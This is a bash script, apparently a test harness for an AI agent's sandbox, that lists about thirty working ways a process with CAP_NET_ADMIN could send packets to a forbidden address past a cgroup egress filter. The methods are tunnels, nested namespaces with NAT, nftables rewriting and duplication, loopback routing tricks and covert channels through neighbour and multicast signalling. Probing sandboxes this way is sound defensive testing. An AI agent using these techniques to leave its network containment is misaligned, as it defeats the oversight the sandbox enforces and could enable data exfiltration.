#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
# What CAP_NET_ADMIN can build in the agent's own namespace: tunnels to the forbidden address, namespaces below, rewriting
# of what goes to the allowed one. Called like the programs: device.sh TECHNIQUE FORBIDDEN PORT ALLOWED; device.sh list.
#
# Each makes things of its own name and removes them; a kernel without such a device leaves nothing.
set -u

[ "${1:-}" != list ] || {
        sed -n 's/^\(device_[a-z0-9_]*\)() {.*/\1/p' "$0"
        exit 0
}
[ -n "${ATTACK_TIMED:-}" ] || ATTACK_TIMED=1 exec timeout 20 "$0" "$@"
technique=$1 forbidden=$2 port=$3 allowed=$4
id=$$
hex=$(printf %x $((id % 65536)))
case $forbidden in *:*) version=6 family=ip6 ;; *) version=4 family=ip ;; esac
own=$(ip -o -"$version" addr show dev eth0 scope global | awk '{ sub("/.*", "", $4); print $4; exit }')
gateway=$(ip -"$version" route show default | awk '{ print $3; exit }')
inner=192.168.$((id % 200)).$((id / 200 % 200))

# Bash's own datagrams: "out of here" to an address and port.
say() {
        bash -c 'exec 9> "/dev/udp/$0/$1" && printf "out of here" >&9' "$1" "$2"
}

# tunnel KIND WORDS...: a device whose other end is the forbidden address, and a datagram into it.
tunnel() {
        ip link add "t$id" type "$@" || return
        ip link set "t$id" up
        ip addr add "$inner/32" peer 192.168.255.1 dev "t$id"
        ip neigh replace 192.168.255.1 lladdr 02:00:00:00:00:01 dev "t$id" nud permanent 2>/dev/null
        say 192.168.255.1 "$port"
        ip link del "t$id"
}

device_ipip() { tunnel ipip remote "$forbidden" local "$own"; }
device_gre() { tunnel gre remote "$forbidden" local "$own"; }
device_gretap() { tunnel gretap remote "$forbidden" local "$own"; }
device_sit() {
        ip link add "t$id" type sit remote "$forbidden" local "$own" || return
        ip link set "t$id" up
        ip -6 addr add "2001:db8:5::$hex/128" dev "t$id" nodad
        ip -6 route add "2001:db8:6::$hex/128" dev "t$id"
        say "2001:db8:6::$hex" "$port"
        ip link del "t$id"
}
device_ip6tnl() { tunnel ip6tnl mode any remote "$forbidden" local "$own"; }
device_ip6gre() { tunnel ip6gre remote "$forbidden" local "$own"; }
device_vti() { tunnel vti remote "$forbidden" local "$own" key $((id % 60000)); }
device_vxlan() { tunnel vxlan id "$id" remote "$forbidden" local "$own" dstport $((20000 + id % 40000)); }
device_geneve() { tunnel geneve id "$id" remote "$forbidden"; }
device_bareudp() { tunnel bareudp dstport "$port" ethertype ipv4; }
device_fou() {
        ip fou add port $((20000 + id % 40000)) ipproto 4 || return
        tunnel ipip remote "$forbidden" local "$own" encap fou encap-sport auto encap-dport "$port"
        ip fou del port $((20000 + id % 40000))
}
device_wireguard() {
        ip link add "t$id" type wireguard || return
        wg set "t$id" private-key <(wg genkey) peer "$(wg genkey | wg pubkey)" endpoint "$forbidden:$port" allowed-ips 0.0.0.0/0 persistent-keepalive 1
        ip link set "t$id" up
        ip addr add "$inner/32" peer 192.168.255.1 dev "t$id"
        say 192.168.255.1 "$port"
        ip link del "t$id"
}

# ESP in tunnel mode: packets to the allowed address become packets to the forbidden one.
device_xfrm() {
        local spi=$((0x1000 + id))
        ip xfrm state add src "$own" dst "$forbidden" proto esp spi $spi mode tunnel enc 'cipher_null' '' auth 'digest_null' '' || return
        ip xfrm policy add dst "$allowed" dir out tmpl src "$own" dst "$forbidden" proto esp spi $spi mode tunnel
        say "$allowed" "$port"
        ip xfrm policy delete dst "$allowed" dir out
        ip xfrm state delete src "$own" dst "$forbidden" proto esp spi $spi
}

# A route that wraps what goes to the allowed address.
device_segment_route() {
        ip -6 route add "$allowed/128" encap seg6 mode encap segs "$forbidden" via "$gateway" dev eth0 || return
        say "$allowed" "$port"
        ip -6 route del "$allowed/128"
}

device_segment_inline() {
        ip -6 route add "$allowed/128" encap seg6 mode inline segs "$forbidden" via "$gateway" dev eth0 || return
        say "$allowed" "$port"
        ip -6 route del "$allowed/128"
}

# A namespace below, which sends through this one. Its packets are forwarded here: they have no socket any more.
below() {
        local pid
        echo 1 > /proc/sys/net/ipv4/ip_forward
        echo 1 > /proc/sys/net/ipv6/conf/all/forwarding
        unshare -n tail -f /dev/null &
        pid=$!
        until [ "$(readlink "/proc/$pid/ns/net")" != "$(readlink /proc/self/ns/net)" ]; do read -r -t 0.02 <> <(:); done
        ip link add "v$id" type veth peer name eth0 netns "$pid" || { kill "$pid"; return; }
        if [ $version = 4 ]; then
                ip addr add "${inner%.*}.254/32" peer "$inner" dev "v$id"
        else
                ip -6 addr add "2001:db8:7:$hex::1/64" dev "v$id" nodad
        fi
        ip link set "v$id" up
        nsenter --net="/proc/$pid/ns/net" ip link set eth0 up
        if [ $version = 4 ]; then
                nsenter --net="/proc/$pid/ns/net" ip addr add "$inner/32" peer "${inner%.*}.254" dev eth0
                nsenter --net="/proc/$pid/ns/net" ip route add default via "${inner%.*}.254"
        else
                nsenter --net="/proc/$pid/ns/net" ip -6 addr add "2001:db8:7:$hex::2/64" dev eth0 nodad
                nsenter --net="/proc/$pid/ns/net" ip -6 route add default via "2001:db8:7:$hex::1"
        fi
        nft -f - <<NFT
table inet n$id {
        chain pre { type nat hook prerouting priority -100; $1 }
        chain post { type nat hook postrouting priority 100; iifname "v$id" masquerade; }
}
NFT
        nsenter --net="/proc/$pid/ns/net" "$0" say "$2" "$port" -
        nft delete table inet "n$id"
        ip link del "v$id"
        kill "$pid"
}

device_namespace_below() { below "" "$forbidden"; }
# It asks for the allowed address; this namespace makes another of it when no hook of the cgroup looks any more.
device_namespace_rewritten() { below "$family daddr $allowed iifname v$id dnat $family to $forbidden;" "$allowed"; }

# A device beside eth0 with a MAC of its own, in a namespace below.
beside() {
        local pid
        unshare -n tail -f /dev/null &
        pid=$!
        until [ "$(readlink "/proc/$pid/ns/net")" != "$(readlink /proc/self/ns/net)" ]; do read -r -t 0.02 <> <(:); done
        ip link add "m$id" link eth0 type "$@" && ip link set "m$id" netns "$pid" && nsenter --net="/proc/$pid/ns/net" bash -c '
                ip link set "$1" up
                ip addr add "$3/32" dev "$1"
                ip route add "$2" dev "$1"
                ip route add default via "$2" dev "$1" onlink
                ip neigh replace "$2" lladdr "$ATTACK_GATEWAY_MAC" dev "$1" nud permanent
                exec "$4" say "$5" "$6" -' - "m$id" "$gateway" "${own%.*}.$((30 + id % 200))" "$0" "$forbidden" "$port"
        kill "$pid"
}

device_macvlan() { beside macvlan mode bridge; }
device_ipvlan() { beside ipvlan mode l2; }

# NAT of its own: before the cgroup's hook, and behind it.
device_nat() {
        nft -f - <<NFT
table inet n$id {
        chain out { type nat hook output priority -100; $family daddr $allowed dnat $family to $forbidden; }
}
NFT
        say "$allowed" "$port"
        nft delete table inet "n$id"
}

device_rewritten() {
        nft -f - <<NFT
table netdev n$id {
        chain out { type filter hook egress device "eth0" priority 0; $family daddr $allowed $family daddr set $forbidden; }
}
NFT
        say "$allowed" "$port"
        nft delete table netdev "n$id"
}

# A copy of what is allowed goes to another host of the link.
device_duplicated() {
        nft -f - <<NFT
table $family n$id {
        chain out { type filter hook output priority 0; $family daddr $forbidden dup to ${gateway%?}9 device "eth0"; }
}
NFT
        ip neigh replace "${gateway%?}9" lladdr 02:00:00:00:00:99 dev eth0 nud permanent
        say "$forbidden" "$port"
        nft delete table $family "n$id"
}

# Rewritten in front of the loopback device, which the first look takes for the agent's own.
device_nat_loopback() {
        local here=127.$((1 + id / 60000)).$((id / 250 % 250)).$((id % 250))
        nft -f - <<NFT
table ip n$id {
        chain out { type nat hook output priority -100; ip daddr $here dnat to $forbidden; }
        chain post { type nat hook postrouting priority 100; ip daddr $forbidden snat to $own; }
}
NFT
        say "$here" "$port"
        nft delete table ip "n$id"
}

# 127/8 with a way out: an address that looks like loopback leaves by the link.
device_loopback_routed() {
        echo 1 > /proc/sys/net/ipv4/conf/eth0/route_localnet
        ip route add "$forbidden/32" via "$gateway" dev eth0 table local src "$own" || return
        say "$forbidden" "$port"
        ip route del "$forbidden/32" table local
}

# What goes to the loopback device is taken from there to the link, with other addresses.
device_loopback_forwarded() {
        local here=127.$((101 + id / 60000)).$((id / 250 % 250)).$((id % 250))
        nft -f - <<NFT
table netdev n$id {
        chain in { type filter hook ingress device "lo" priority 0;
                ip daddr $here ip daddr set $forbidden ip saddr set $own fwd to "eth0"; }
}
NFT
        say "$here" "$port"
        nft delete table netdev "n$id"
}


# The kernel asks for a neighbour by address, and the address is the message.
device_neighbour_asked() {
        ip neigh replace "$forbidden" dev eth0 use
        read -r -t 0.3 <> <(:)
        ip neigh del "$forbidden" dev eth0
}

# An address of one's own that the kernel asks for, before it uses it.
device_address_tried() {
        echo 1 > /proc/sys/net/ipv6/conf/eth0/accept_dad
        ip -6 addr add "$forbidden/128" dev eth0
        read -r -t 1.2 <> <(:)
        ip -6 addr del "$forbidden/128" dev eth0
}

# A group as an address: the kernel joins it and reports, and no socket option is set.
device_joined() {
        ip addr add "$forbidden/$((version == 4 ? 32 : 128))" dev eth0 autojoin || return
        read -r -t 0.5 <> <(:)
        ip addr del "$forbidden/$((version == 4 ? 32 : 128))" dev eth0
}

# Labels in front of a packet to an allowed address.
device_labelled() {
        ip -"$version" route add "$allowed" encap mpls 100 via "inet$([ $version = 4 ] || echo 6)" "$gateway" dev eth0 || return
        say "$allowed" "$port"
        ip -"$version" route del "$allowed"
}

# A trace option, whose namespace and data are the message.
device_traced() {
        ip -6 route add "$allowed/128" encap ioam6 trace prealloc type 0x800000 ns 1 size 12 via "$gateway" dev eth0 || return
        say "$allowed" "$port"
        ip -6 route del "$allowed/128"
}

device_tagged() { beside vlan id $((id % 4000 + 1)); }
device_macvtap() { beside macvtap mode bridge; }
device_secured() { beside macsec encrypt off; }

# to_*: given an allowed address; another host of the link gets it.
device_to_neighbour() {
        ip -"$version" route add "$forbidden" via "${gateway%?}8" dev eth0 onlink
        ip neigh replace "${gateway%?}8" lladdr 02:00:00:00:00:99 dev eth0 nud permanent
        say "$forbidden" "$port"
        ip -"$version" route del "$forbidden"
}

if [ "$1" = say ]; then
        say "$2" "$3"
        exit
fi
"$technique"
